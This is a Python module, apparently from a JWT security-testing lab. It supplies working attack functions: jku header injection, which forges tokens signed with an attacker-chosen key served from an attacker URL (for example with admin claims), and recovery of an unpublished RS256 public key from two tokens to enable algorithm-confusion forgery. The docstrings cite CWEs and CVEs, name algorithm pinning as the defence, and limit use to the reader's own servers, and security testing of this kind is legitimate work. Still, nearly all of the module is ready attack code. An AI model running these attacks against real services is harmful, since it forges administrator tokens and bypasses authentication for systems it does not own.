"""Attacks on where a JWT verifier gets its key. Use them only on servers you run yourself.

    attacker = SigningKey()                             # serve attacker.jwks() at a URL you control
    token = jku_token(admin, url, attacker)             # jku header injection
    public_key = recover_rsa_public_key(token1, token2) # an unpublished RS256 key, from two tokens

``recover_rsa_public_key`` turns algorithm confusion (``alg_confusion_token``) into an attack
on servers that never publish their key: an RS256 signature ``s`` of a message ``m`` satisfies
``s**e - m = k * n``, so two signatures give two multiples of the modulus ``n`` and their gcd is
``n`` (times a small factor, divided out). The integers are ``e * 2048`` bits long, so gmpy2
(GMP) does the arithmetic: pure Python needs hours for that gcd.
"""

from __future__ import annotations

import hashlib

import gmpy2
from cryptography.hazmat.primitives.asymmetric import rsa

from authlab.signing_keys import SigningKey
from authlab.wire import split_token

# RFC 8017 §9.2, note 1: the DER DigestInfo prefix that EMSA-PKCS1-v1_5 puts before the hash
_DIGEST_INFO = {
    "RS256": (hashlib.sha256, bytes.fromhex("3031300d060960864801650304020105000420")),
    "RS384": (hashlib.sha384, bytes.fromhex("3041300d060960864801650304020205000430")),
    "RS512": (hashlib.sha512, bytes.fromhex("3051300d060960864801650304020305000440")),
}


def jku_token(claims: dict, jku: str, key: SigningKey) -> str:
    """``claims`` signed with the attacker's ``key``, whose ``jku`` header points at the attacker's key set.

    Serve ``key.jwks()`` at ``jku``. A verifier that fetches the key set the token names
    verifies the token with the key the attacker chose, however strictly it pins the
    algorithm (CWE-347). The fetch itself is a server-side request the attacker steers (CWE-918).
    """
    return key.sign(claims, {"jku": jku})


def _encoded_message(alg: str, signing_input: bytes, size: int) -> int:
    """EMSA-PKCS1-v1_5 (RFC 8017 §9.2): the integer an RS* signature raised to ``e`` equals, mod n."""
    digest, prefix = _DIGEST_INFO[alg]
    info = prefix + digest(signing_input).digest()
    return int.from_bytes(b"\x00\x01" + b"\xff" * (size - len(info) - 3) + b"\x00" + info, "big")


def recover_rsa_public_key(first: str, second: str, e: int = 65537) -> rsa.RSAPublicKey:
    """The RSA public key that signed both tokens (RS256/384/512), computed from the tokens alone.

    Raises ValueError when the tokens are not RSASSA-PKCS1-v1_5 signed with one key and
    exponent ``e``. PS256 cannot be attacked this way (its padding is randomised), nor
    does it matter: a public key is public, and hiding it is no defence against algorithm
    confusion; pinning the algorithm is (CWE-347; CVE-2015-9235, CVE-2016-10555).
    """
    multiples, checks = [], []
    for token in (first, second):
        header, _, signing_input, signature = split_token(token)
        alg = header.get("alg")
        if alg not in _DIGEST_INFO:
            raise ValueError(f"the token is signed with {alg!r}, not RSASSA-PKCS1-v1_5 (RS256/384/512)")
        message = _encoded_message(alg, signing_input, len(signature))
        s = gmpy2.mpz(int.from_bytes(signature, "big"))
        multiples.append(s**e - message)
        checks.append((s, message, len(signature)))
    if checks[0][2] != checks[1][2]:
        raise ValueError("the signatures differ in length: two different keys")
    modulus = gmpy2.gcd(*multiples)
    bits = 8 * checks[0][2]
    for factor in range(2, 1 << 16):  # the gcd may hold a small common factor of the two k's
        while modulus % factor == 0 and (modulus // factor).bit_length() > bits - 8:
            modulus //= factor
    if not all(modulus > message and gmpy2.powmod(s, e, modulus) == message for s, message, _ in checks):
        raise ValueError(f"the tokens were not signed with one RSA key of exponent {e}")
    return rsa.RSAPublicNumbers(e, int(modulus)).public_key()
